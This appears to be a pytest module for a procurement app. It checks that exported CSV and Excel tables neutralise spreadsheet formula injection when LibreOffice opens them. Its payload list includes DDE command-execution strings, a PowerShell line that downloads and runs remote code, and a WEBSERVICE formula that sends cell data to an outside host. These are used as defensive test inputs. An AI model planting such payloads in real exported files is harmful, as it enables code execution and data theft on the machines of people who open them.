"""Exported tables opened in a real spreadsheet engine: no payload ever runs as a formula.

Payload cells go through the real export paths – ``python -m procurement assess-batch`` and
``check-supplier-batch`` with ``-o`` .csv and .xlsx, and ``table_bytes``, which the app's
download buttons call – and LibreOffice (Debian's, headless, with a profile of its own) opens
every file and saves it again as CSV:

- the CSV files read with comma, with semicolon (Swedish Excel's separator, which cuts our
  comma-separated cells apart) and with tab as separator, in the most trusting settings (quoted
  fields parsed like any other, spaces trimmed, formulas evaluated), saved with formulas shown:
  no cell may be a formula (LibreOffice writes a formula cell as ``=…``);
- the CSV files read with comma, and the .xlsx files, saved with formulas evaluated: every cell
  is the neutralised text the file holds, never ``2``, a link or an error.

Positive controls (a formula written the unsafe way, as the exports did before) must evaluate
in every run, so the engine is shown to run formulas at all. LibreOffice runs only ``=`` from a
CSV file; cells starting with ``+ - @`` are checked to arrive as the neutralised text.

Skipped only where soffice is missing and the user cannot install it (not root);
scripts/test.sh installs libreoffice-calc-nogui as root, and there a missing soffice fails.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from procurement.batch import tables
from procurement.batch.csvsafe import safe_text
from procurement.batch.suppliers import SUPPLIER_ID_COLUMN, check_frame
from procurement.service import default_supplier_ruleset
from tests.cli_helpers import run_cli

SOFFICE = shutil.which("soffice")
IS_ROOT = os.geteuid() == 0
pytestmark = pytest.mark.skipif(
    SOFFICE is None and not IS_ROOT,
    reason="LibreOffice is not installed (sudo apt-get install libreoffice-calc-nogui, "
    "or run scripts/test.sh as root)",
)

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")',
    '\x01=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://x/?"&A1)',
    "=A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    " \t =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\ufe661+1",
    "abc\r=1+1",
    "abc\r\n=1+1",
    "abc\n=1+1",
    "x;=1+1;",
    "x,=1+1,",
    "x\t=1+1\t",
    'x;"=1+1";',
    "x; =1+1",
    "=1+1;=2+2,=3+3",
    '"=1+1"',
    "'=1+1",
    "=1+1\r",
    "+46 8 123",
    "-5",
    "#N/A",
    "x",
]
# A CSV input file cannot hold NUL (it is refused as not a text file): those go to
# table_bytes only.
CSV_PAYLOADS = [p for p in PAYLOADS if "\x00" not in p]
CSV_RUNS = {"comma": 44, "semicolon": 59, "tab": 9}


@dataclass(frozen=True)
class Exported:
    """The exported files of one run of the tests, by format."""

    csv: list[Path]
    xlsx: list[Path]


# --- LibreOffice -------------------------------------------------------------------------------


def _csv_import(separator: int, trim: bool) -> str:
    # CSV filter options: separator, text delimiter ("), UTF-8 (76), from line 1, no column
    # formats, default language, quoted fields NOT as text, detect special numbers, -, -,
    # trim spaces, -, evaluate formulas.
    return f"CSV:{separator},34,76,1,,0,false,true,false,false,{str(trim).lower()},,true"


def _csv_export(formulas: bool) -> str:
    # Comma, quote all text cells, raw values (not as shown), formulas or their results.
    return f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,{str(formulas).lower()}"


@pytest.fixture(scope="module")
def soffice(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """Debian's soffice and a user profile of its own for this module."""
    if SOFFICE is None:
        pytest.fail("soffice is missing: scripts/test.sh installs libreoffice-calc-nogui as root")
    yield SOFFICE, tmp_path_factory.mktemp("lo-profile")


def convert(
    soffice: tuple[str, Path], files: list[Path], out: Path, infilter: str | None, formulas: bool
) -> dict[str, list[list[str]]]:
    """Open ``files`` in LibreOffice (one process for all) and save each as CSV in ``out``;
    the cells of each, by input file name."""
    program, profile = soffice
    out.mkdir()
    command = [
        program,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        *([f"--infilter={infilter}"] if infilter else []),
        "--convert-to",
        _csv_export(formulas),
        "--outdir",
        str(out),
        *map(str, files),
    ]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    result = {}
    for file in files:
        converted = out / f"{file.stem}.csv"
        assert converted.exists(), (file.name, proc.returncode, proc.stdout, proc.stderr)
        with converted.open(encoding="utf-8", newline="") as handle:
            result[file.name] = list(csv.reader(handle))
    return result


# --- the exports -------------------------------------------------------------------------------


def _input_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL).writerows([header, *rows])
    return path


def _cases(path: Path) -> Path:
    # The payload as the case id (echoed) and as the value (echoed, and named in the error).
    rows = [[p, "2025-06-01", "100000"] for p in CSV_PAYLOADS]
    rows += [[f"v{i}", "2025-06-01", p] for i, p in enumerate(CSV_PAYLOADS)]
    return _input_csv(path, ["case_id", "as_of", "estimated_value_sek"], rows)


def _suppliers(path: Path) -> Path:
    rows = [[p, "true", "10", "4"] for p in CSV_PAYLOADS]
    rows += [[f"s{i}", p, p, "4"] for i, p in enumerate(CSV_PAYLOADS)]
    header = [SUPPLIER_ID_COLUMN, "runs_business", "employees_total", "employees_target_group"]
    return _input_csv(path, header, rows)


def _frame_with_every_payload() -> pd.DataFrame:
    """Payloads in every text column and as column names, numbers beside them."""
    n = len(PAYLOADS)
    columns: dict[str, list[object]] = {"row": list(range(2, n + 2)), "payload": PAYLOADS}
    columns["reversed"] = PAYLOADS[::-1]
    columns["number"] = [-5, 0.25, 1_000_000, *range(n - 3)]
    for name in PAYLOADS:  # the payloads as column names (all different from the above)
        columns[name] = [name] * n
    return pd.DataFrame(columns, dtype=object)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Exported:
    """Every export path's output files, and the positive controls."""
    folder = tmp_path_factory.mktemp("exports")
    cases, suppliers = _cases(folder / "in_cases.csv"), _suppliers(folder / "in_suppliers.csv")
    outputs: dict[str, list[Path]] = {"csv": [], "xlsx": []}
    for command, table in (("assess-batch", cases), ("check-supplier-batch", suppliers)):
        for suffix in outputs:
            out = folder / f"{command}.{suffix}"
            proc = run_cli(command, table, "-o", out)
            assert proc.returncode == 1, proc.stderr  # the rows with payload values are errors
            assert "Traceback" not in proc.stderr
            outputs[suffix].append(out)
    # The app: the upload read from memory, checked, and offered as table_bytes' download.
    rs = default_supplier_ruleset()
    upload = tables.read_table_bytes(suppliers.read_bytes(), "upload.csv", rs, SUPPLIER_ID_COLUMN)
    checked = check_frame(upload, rs, "sv").frame
    frame = _frame_with_every_payload()
    for suffix in outputs:
        for name, data in (("app", checked), ("frame", frame)):
            path = folder / f"{name}.{suffix}"
            path.write_bytes(tables.table_bytes(data, f".{suffix}"))
            outputs[suffix].append(path)
    # Positive controls, as the exports wrote before: a formula cell, a cell cut at ';' or tab.
    control_csv = folder / "control.csv"
    control_csv.write_text('"control",=1+1\n2,"x;=1+1;"\n3\t=1+1\n', encoding="utf-8")
    book = Workbook()
    book.active.append(["control", "=1+1"])  # type: ignore[union-attr]
    book.save(folder / "control.xlsx")
    return Exported(
        csv=[*outputs["csv"], control_csv], xlsx=[*outputs["xlsx"], folder / "control.xlsx"]
    )


_TABLE_WRITERS = re.compile(
    r"\.to_csv\(|\.to_excel\(|csv\.writer\(|DictWriter\(|Workbook\(|ExcelWriter\("
)


def test_every_spreadsheet_the_package_writes_is_written_by_batch_tables() -> None:
    # The app's downloads and the command line's -o go through table_bytes/write_table: no
    # other module writes a CSV or a workbook of its own (which this test would not open).
    package = Path(tables.__file__).parents[1]
    writers = [
        str(path.relative_to(package))
        for path in sorted(package.rglob("*.py"))
        if path != Path(tables.__file__) and _TABLE_WRITERS.search(path.read_text("utf-8"))
    ]
    assert writers == []


def test_every_payload_is_exported_as_its_neutralised_text(exported: Exported) -> None:
    frame = next(p for p in exported.csv if p.name == "frame.csv")
    cells = _our_csv(frame)
    assert [row[1] for row in cells[1:]] == [safe_text(p) for p in PAYLOADS]
    assert cells[0][4:] == [safe_text(p) for p in PAYLOADS]
    for path in exported.csv[:-1]:
        raw = path.read_bytes()
        assert b"\r" not in raw and b"\x00" not in raw, path.name


# --- no formula, whichever separator the reader picks -----------------------------------------


def _formulas(cells: list[list[str]]) -> list[str]:
    return [cell for row in cells for cell in row if cell.startswith("=")]


@pytest.mark.parametrize("separator", CSV_RUNS)
def test_csv_holds_no_formula_at_any_separator(
    soffice: tuple[str, Path], exported: Exported, tmp_path: Path, separator: str
) -> None:
    infilter = _csv_import(CSV_RUNS[separator], trim=True)
    shown = convert(soffice, exported.csv, tmp_path / "out", infilter, formulas=True)
    control = shown.pop("control.csv")
    assert _formulas(control), control  # the engine does run formulas
    for name, cells in shown.items():
        assert _formulas(cells) == [], (separator, name)


def test_xlsx_holds_no_formula(
    soffice: tuple[str, Path], exported: Exported, tmp_path: Path
) -> None:
    shown = convert(soffice, exported.xlsx, tmp_path / "out", None, formulas=True)
    assert _formulas(shown.pop("control.xlsx")) == ["=1+1"]
    for name, cells in shown.items():
        assert _formulas(cells) == [], name


# --- every cell evaluates to the text the file holds ------------------------------------------


def test_csv_cells_evaluate_to_their_text(
    soffice: tuple[str, Path], exported: Exported, tmp_path: Path
) -> None:
    infilter = _csv_import(CSV_RUNS["comma"], trim=False)
    values = convert(soffice, exported.csv, tmp_path / "out", infilter, formulas=False)
    assert values.pop("control.csv")[0] == ["control", "2"]
    for path in exported.csv[:-1]:
        _assert_same(_our_csv(path), values[path.name], path.name)


def test_xlsx_cells_evaluate_to_their_text(
    soffice: tuple[str, Path], exported: Exported, tmp_path: Path
) -> None:
    values = convert(soffice, exported.xlsx, tmp_path / "out", None, formulas=False)
    assert values.pop("control.xlsx") == [["control", "2"]]
    for path in exported.xlsx[:-1]:
        _assert_same(_our_xlsx(path), values[path.name], path.name)


def _our_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _our_xlsx(path: Path) -> list[list[str]]:
    book = load_workbook(path)
    sheet = book.worksheets[0]
    assert {c.data_type for row in sheet.iter_rows() for c in row} <= {"s", "n"}
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


_ISO_DATE = re.compile(r"\d{4}-\d\d-\d\d")


def _same_cell(ours: str, theirs: str) -> bool:
    """LibreOffice shows the same cell: the same text, or the number, date or truth value
    that it recognised in the text (never an evaluated formula: our texts that could be one
    start with an apostrophe)."""
    if ours == theirs:
        return True
    try:
        return float(ours) == float(theirs)
    except ValueError:
        pass
    if _ISO_DATE.fullmatch(ours):
        return theirs in (ours, dt.date.fromisoformat(ours).strftime("%m/%d/%y"))
    return ours.lower() in ("true", "false") and theirs == ours.upper()


def _assert_same(ours: list[list[str]], theirs: list[list[str]], name: str) -> None:
    width = max(map(len, ours))
    theirs = [row + [""] * (width - len(row)) for row in theirs]
    assert len(theirs) == len(ours), name
    for number, (mine, shown) in enumerate(zip(ours, theirs, strict=True), start=1):
        for column, (a, b) in enumerate(zip(mine, shown, strict=True), start=1):
            assert _same_cell(a, b), (name, number, column, a, b)
